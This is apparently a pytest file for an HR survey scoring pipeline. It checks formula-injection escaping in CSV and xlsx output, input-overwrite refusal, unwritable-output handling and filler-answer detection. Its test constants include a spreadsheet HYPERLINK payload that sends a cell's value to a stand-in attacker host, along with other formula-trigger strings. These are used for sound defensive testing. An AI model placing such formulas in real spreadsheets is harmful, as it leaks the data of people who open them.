"""Outputs are safe with real HR data: no formula reaches Excel, no input is overwritten, no late failure (issue 14).

Before the fix, `=HYPERLINK("http://…?x="&A1,"click")` in a survey answer came out raw in
CSV and as a live formula in xlsx (`score`, `redact`, the report's workbook).
"""

import csv
import json
import os
import stat
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
import yaml

from pipeline.errors import InputError
from pipeline.io.files import neutralise_formula, write_chunks, write_table

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = [LINK, "+44 7700 900123", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dcmd"]
SAFE = ["It's fine", "a = b", "n/a", "", "-", "+ "]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", [*SAFE, None, 3, -2.5])
def test_everything_else_is_left_alone(value):
    assert neutralise_formula(value) == value


def _tables(values):
    schema = pa.schema([("id", pa.string()), ("answer", pa.string()), ("count", pa.int64())])
    rows = pa.table({"id": [f"@{i}" for i in range(len(values))], "answer": values, "count": [-1] * len(values)})
    return [rows], schema


def test_csv_output_neutralises_every_text_cell_and_keeps_numbers(tmp_path):
    dangerous = DANGEROUS  # "\r=1+1" too: a cell holding a bare CR is quoted
    tables, schema = _tables(dangerous + SAFE)
    write_chunks(tables, schema, tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["answer"] for r in rows] == ["'" + v for v in dangerous] + SAFE
    assert all(r["id"].startswith("'@") for r in rows)
    assert {r["count"] for r in rows} == {"-1"}  # a number is not text a formula can hide in


def test_allow_formulas_writes_csv_cells_as_they_are(tmp_path):
    tables, schema = _tables([LINK])
    write_chunks(tables, schema, tmp_path / "out.csv", allow_formulas=True)
    assert pd.read_csv(tmp_path / "out.csv")["answer"].tolist() == [LINK]


@pytest.mark.parametrize("allow_formulas", [False, True])
def test_xlsx_cells_are_text_never_formulas(tmp_path, allow_formulas):
    tables, schema = _tables(DANGEROUS)
    write_chunks(tables, schema, tmp_path / "out.xlsx", allow_formulas=allow_formulas)
    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    answers = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert answers[0] == (LINK if allow_formulas else "'" + LINK)
    assert all(cell.data_type == "s" for cell in sheet["B"][1:])


@pytest.mark.parametrize("name", ["plots.csv", "plots.xlsx"])
def test_tables_written_whole_are_neutralised_too(tmp_path, name):
    write_table(pd.DataFrame({"=group": [LINK, "ward"], "share": [-0.5, 0.5]}), tmp_path / name)
    back = pd.read_csv(tmp_path / name) if name.endswith(".csv") else pd.read_excel(tmp_path / name)
    assert list(back.columns) == ["'=group", "share"]
    assert back["'=group"].tolist() == ["'" + LINK, "ward"] and back["share"].tolist() == [-0.5, 0.5]


@pytest.fixture()
def params_file(tmp_path):
    path = tmp_path / "params.yaml"
    encoder = {"backend": "hashing", "model": "", "dim": 512}
    path.write_text(yaml.safe_dump({"encoder": encoder, "text": {"sentences": "sentencizer"}}))
    return path


@pytest.fixture()
def export(tmp_path):
    path = tmp_path / "export.csv"
    pd.DataFrame({"id": ["=1+1", "r2"], "answer": [LINK, "She explains why decisions are made."]}).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_score_neutralises_answers_and_ids_unless_asked_not_to(run_cli, model_dir, params_file, export, tmp_path, suffix):
    options = ("-c", "answer", "--model", model_dir, "--params", params_file)
    code, _, err = run_cli("score", export, "-o", tmp_path / f"safe{suffix}", *options)
    assert code == 0, err
    read = pd.read_csv if suffix == ".csv" else pd.read_excel
    safe = read(tmp_path / f"safe{suffix}")
    assert safe["answer"].tolist()[0] == "'" + LINK and safe["id"].tolist()[0] == "'=1+1"
    code, _, err = run_cli("score", export, "-o", tmp_path / f"raw{suffix}", *options, "--allow-formulas")
    assert code == 0, err
    assert read(tmp_path / f"raw{suffix}")["answer"].tolist()[0] == LINK


def test_redact_neutralises_its_output(run_cli, params_file, export, tmp_path):
    code, _, err = run_cli("redact", export, "-o", tmp_path / "red.csv", "-c", "answer", "--params", params_file)
    assert code == 0, err
    assert pd.read_csv(tmp_path / "red.csv")["answer"].tolist()[0] == "'" + LINK
    assert pd.read_csv(export)["answer"].tolist()[0] == LINK  # the input is untouched


def test_an_output_that_is_the_input_is_refused_before_any_work(run_cli, model_dir, params_file, export, tmp_path):
    """Before the fix `score a.csv -o a.csv` and `redact export.csv -o export.csv` exited 0 and replaced the input."""
    before = export.read_bytes()
    link = tmp_path / "same.csv"
    link.hardlink_to(export)
    for output in (export, tmp_path / "." / export.name, link):
        code, _, err = run_cli("score", export, "-o", output, "-c", "answer", "--model", model_dir, "--params", params_file)
        assert code == 2 and "that is the input file" in err and err.count("\n") == 1
        code, _, err = run_cli("redact", export, "-o", output, "-c", "answer", "--params", params_file)
        assert code == 2 and "that is the input file" in err
    assert export.read_bytes() == before and not list(tmp_path.glob(".*partial*"))
    scored = tmp_path / "scored.xlsx"
    code, _, err = run_cli("score", export, "-o", scored, "-c", "answer", "--model", model_dir, "--params", params_file)
    assert code == 0, err
    scored_bytes = scored.read_bytes()
    code, _, err = run_cli("report", scored, "-o", tmp_path / "r.html", "--xlsx", scored, "--model", model_dir)
    assert code == 2 and "that is the input file" in err
    assert scored.read_bytes() == scored_bytes and not (tmp_path / "r.html").exists()


def test_outputs_that_cannot_be_written_are_refused_before_scoring(run_cli, model_dir, params_file, export, tmp_path):
    """Before the fix a missing --report or --report-xlsx folder, or `-o` naming a folder, failed only after
    every row was scored (the folder case with a traceback), and `tag --file` given a folder was a traceback."""
    options = ("-c", "answer", "--model", model_dir, "--params", params_file)
    cases = [
        (("-o", tmp_path / "out.csv", "--report", tmp_path / "nodir" / "r.html"), "does not exist"),
        (("-o", tmp_path / "out.csv", "--report", tmp_path / "r.html", "--report-xlsx", tmp_path / "nodir" / "s.xlsx"),
         "does not exist"),
        (("-o", tmp_path / "folder.csv"), "is a folder"),
    ]
    (tmp_path / "folder.csv").mkdir()
    for args, message in cases:
        code, out, err = run_cli("score", export, *args, *options)
        assert code == 2 and message in err and "Traceback" not in err, err
        assert "rows" not in out  # refused before any scoring
    assert not (tmp_path / "out.csv").exists() and not list(tmp_path.glob(".*partial*"))
    code, _, err = run_cli("tag", "--file", tmp_path, "--model", model_dir, "--params", params_file)
    assert code == 2 and "is a folder" in err


@pytest.mark.parametrize("content", ["just some words\n", "- a\n- list\n", "42\n"])
def test_a_params_file_that_is_not_sections_is_one_line(run_cli, export, tmp_path, content):
    """Before the fix a params file holding a string listed its characters as unknown sections."""
    params = tmp_path / "bad.yaml"
    params.write_text(content)
    code, _, err = run_cli("redact", export, "-o", tmp_path / "red.csv", "-c", "answer", "--params", params)
    assert code == 2 and "expected sections (encoder, text," in err and err.count("\n") == 1


def test_a_params_file_that_is_binary_or_a_folder_is_one_line(run_cli, export, tmp_path):
    (tmp_path / "binary.yaml").write_bytes(b"\xff\xfe\x00\x01")
    for params in (tmp_path / "binary.yaml", tmp_path):
        code, _, err = run_cli("redact", export, "-o", tmp_path / "red.csv", "-c", "answer", "--params", params)
        assert code == 2 and "not a readable UTF-8 YAML file" in err, err


FILLER = ["N/A", "n/a.", "-", "No comment", "NONE", "nil", "\x00\x00", "\u200b", "???", "see above"]


def test_filler_answers_are_empty_not_answered(run_cli, model_dir, params_file, tmp_path):
    """Before the fix "N/A", "-", "nil", NUL-only and zero-width-only answers got status ok (43 of the 133 non-blank
    leaving reasons in the bundled export), inflating the report's no-behaviour shares."""
    export = tmp_path / "filler.csv"
    pd.DataFrame({"answer": FILLER + ["She explains why decisions are made.", "I had no support"]}).to_csv(export, index=False)
    options = ("-c", "answer", "--model", model_dir, "--params", params_file)
    code, _, err = run_cli("score", export, "-o", tmp_path / "out.csv", *options)
    assert code == 0, err
    status = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)["status"].tolist()
    assert status == ["empty"] * len(FILLER) + ["ok", "ok"]


def test_filler_is_configured_in_params(trained, encoder, splitter):
    from pipeline.tagger import Tagger

    own = Tagger(trained[0], encoder=encoder, splitter=splitter, empty_values=("pay",))
    assert [r.status for r in own.tag(["Pay!", "n/a", "--"])] == ["empty", "ok", "empty"]


# ---------------------------------------------------------------- partial folders, writability, umask (findings 2-4)


@pytest.fixture()
def chunked(params_file, tmp_path):
    """Params scoring two rows a chunk, and an export of six rows (three chunks)."""
    params_file.write_text(params_file.read_text() + "score:\n  chunk_size: 2\n")
    path = tmp_path / "six.csv"
    pd.DataFrame({"answer": [f"She explains why decision {i} was made." for i in range(6)]}).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("interrupted_at, kept", [(0, False), (2, True)])
def test_an_interruption_keeps_the_partial_folder_only_when_it_holds_chunks(
    run_cli, model_dir, params_file, chunked, tmp_path, monkeypatch, interrupted_at, kept
):
    """Before the fix Ctrl-C before the first chunk left a folder with only a manifest that blocked the rerun."""
    from pipeline.batch.partial import PartialRun, partial_folder

    save = PartialRun.save

    def interrupted(self, index, frame):
        if index == interrupted_at:
            raise KeyboardInterrupt
        save(self, index, frame)

    monkeypatch.setattr(PartialRun, "save", interrupted)
    output = tmp_path / "out.csv"
    code, _, err = run_cli("score", chunked, "-o", output, "-c", "answer", "--model", model_dir, "--params", params_file)
    assert code == 130 and partial_folder(output).exists() == kept and not output.exists()
    assert ("rerun with --resume" in err) == kept and ("nothing kept" in err) != kept


def test_a_bad_row_after_the_first_chunks_removes_the_partial_folder(run_cli, model_dir, params_file, chunked, tmp_path):
    """A read that fails part way (here an unclosed quote on row 5) cannot be resumed: fixing the file changes its
    fingerprint. Before the fix the folder stayed and blocked every later run."""
    chunked.write_text(chunked.read_text() + '"an unclosed quote\n')
    output = tmp_path / "out.csv"
    code, _, err = run_cli("score", chunked, "-o", output, "-c", "answer", "--model", model_dir, "--params", params_file)
    assert code == 2 and "cannot read as csv" in err and err.count("\n") == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["params.yaml", "six.csv"]


@pytest.fixture()
def immutable_folder(tmp_path):
    """A folder nobody may write in, root included (`chattr +i`); skipped only where chattr cannot do it."""
    import subprocess

    folder = tmp_path / "locked"
    folder.mkdir()
    done = subprocess.run(["chattr", "+i", str(folder)], capture_output=True)
    if done.returncode != 0:
        pytest.skip("chattr +i is not available here, and as root no permission bit stops a write")
    yield folder
    subprocess.run(["chattr", "-i", str(folder)], check=True)


@pytest.mark.parametrize("option", ["-o", "--report", "--report-xlsx"])
def test_an_output_folder_that_cannot_be_written_is_refused_before_scoring(
    run_cli, model_dir, params_file, export, tmp_path, immutable_folder, option
):
    """Before the fix a PermissionError came as a traceback, after every row was scored."""
    names = {"-o": "out.csv", "--report": "r.html", "--report-xlsx": "s.xlsx"}
    paths = {o: tmp_path / n for o, n in names.items()}
    paths[option] = immutable_folder / names[option]
    args = [a for o in names for a in (o, paths[o])]
    code, out, err = run_cli("score", export, *args, "-c", "answer", "--model", model_dir, "--params", params_file)
    assert code == 2 and f"cannot write in {immutable_folder}" in err and err.count("\n") == 1, err
    assert "rows" not in out and sorted(p.name for p in tmp_path.iterdir()) == ["export.csv", "locked", "params.yaml"]


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600)])
@pytest.mark.parametrize("command", ["score", "redact"])
def test_outputs_get_the_mode_the_umask_gives(run_cli, model_dir, params_file, export, tmp_path, umask, mode, command):
    """Before the fix every output was 0600 whatever the umask."""
    output = tmp_path / "out.csv"
    model = ("--model", model_dir) if command == "score" else ()
    previous = os.umask(umask)
    try:
        code, _, err = run_cli(command, export, "-o", output, "-c", "answer", *model, "--params", params_file)
    finally:
        os.umask(previous)
    assert code == 0, err
    assert stat.S_IMODE(output.stat().st_mode) == mode


# ---------------------------------------------------------------- cells that were cut or split (finding 5)


def test_a_bare_cr_in_a_cell_survives_a_csv_round_trip(run_cli, model_dir, params_file, tmp_path):
    """Before the fix the writer left a cell with a bare CR unquoted, so it came back as two rows."""
    source = tmp_path / "cr.csv"
    source.write_bytes(b'id,answer\r1,"first line\rsecond line"\r2,She explains why.\r')
    output = tmp_path / "out.csv"
    code, _, err = run_cli("score", source, "-o", output, "-c", "answer", "--model", model_dir, "--params", params_file)
    assert code == 0, err
    back = pd.read_csv(output, dtype=str)
    assert back["answer"].tolist() == ["first line\rsecond line", "She explains why."]
    assert back["status"].tolist() == ["ok", "ok"]


def test_an_xlsx_cell_over_excels_limit_is_refused_never_cut(tmp_path):
    long = "w" * 40_000
    schema = pa.schema([("answer", pa.string())])
    with pytest.raises(InputError, match=r"row 2, column 'answer' holds 40,000 characters.*write .csv or .parquet"):
        write_chunks([pa.table({"answer": ["short", long]})], schema, tmp_path / "out.xlsx")
    with pytest.raises(InputError, match="holds 40,000 characters"):
        write_table(pd.DataFrame({"answer": [long]}), tmp_path / "whole.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_line_longer_than_spacys_limit_is_split_not_refused(splitter):
    """Before the fix spaCy refused a text over 1,000,000 characters (E088) with a traceback."""
    from pipeline.text import cut_long_line

    line = " ".join(f"Sentence {i} is here." for i in range(60_000))  # ~1.3M characters, one line
    pieces = cut_long_line(line)
    assert "".join(pieces) == line and max(map(len, pieces)) <= 100_000
    assert all(piece.endswith(". ") for piece in pieces[:-1])  # cut after a sentence end
    sentences = splitter.split([line])[0]
    assert len(sentences) == 60_000 and sentences[-1] == "Sentence 59999 is here."


# ---------------------------------------------------------------- project paths (finding 8)


def test_project_paths_come_from_the_working_directory(run_cli, tmp_path, monkeypatch):
    """Before the fix `labelled`, `models` and `configs` defaulted to the folders beside the installed package, and
    `--help` showed that absolute path."""
    import shutil
    import subprocess
    import sys

    from helpers import tiny_rows, write_labelled_csv

    from pipeline.config import PROJECT_ROOT

    project = tmp_path / "project"
    shutil.copytree(PROJECT_ROOT / "configs", project / "configs")
    (project / "labelled").mkdir()
    write_labelled_csv(project / "labelled" / "tiny.csv", tiny_rows()[:10])
    env = {k: v for k, v in os.environ.items() if k != "BEHAVIOURS_PROJECT"}
    env["PYTHONPATH"] = os.pathsep.join([str(Path(__file__).resolve().parents[2]), env.get("PYTHONPATH", "")])

    def behaviours(*args, cwd, extra=None):
        return subprocess.run(
            [sys.executable, "-m", "pipeline.cli", *args], cwd=cwd, env={**env, **(extra or {})},
            capture_output=True, text=True, check=True,
        ).stdout

    assert json.loads(behaviours("labelled", "stats", "--json", cwd=project))["stats"]["rows"] == 10
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    stats = behaviours("labelled", "stats", "--json", cwd=elsewhere, extra={"BEHAVIOURS_PROJECT": str(project)})
    assert json.loads(stats)["stats"]["rows"] == 10
    monkeypatch.setenv("COLUMNS", "300")  # each default on one line
    for command in (("score",), ("train",), ("labelled", "validate")):
        code, shown, _ = run_cli(*command, "--help")
        assert code == 0 and "[default: configs/params.yaml]" in shown and "[default: /" not in shown
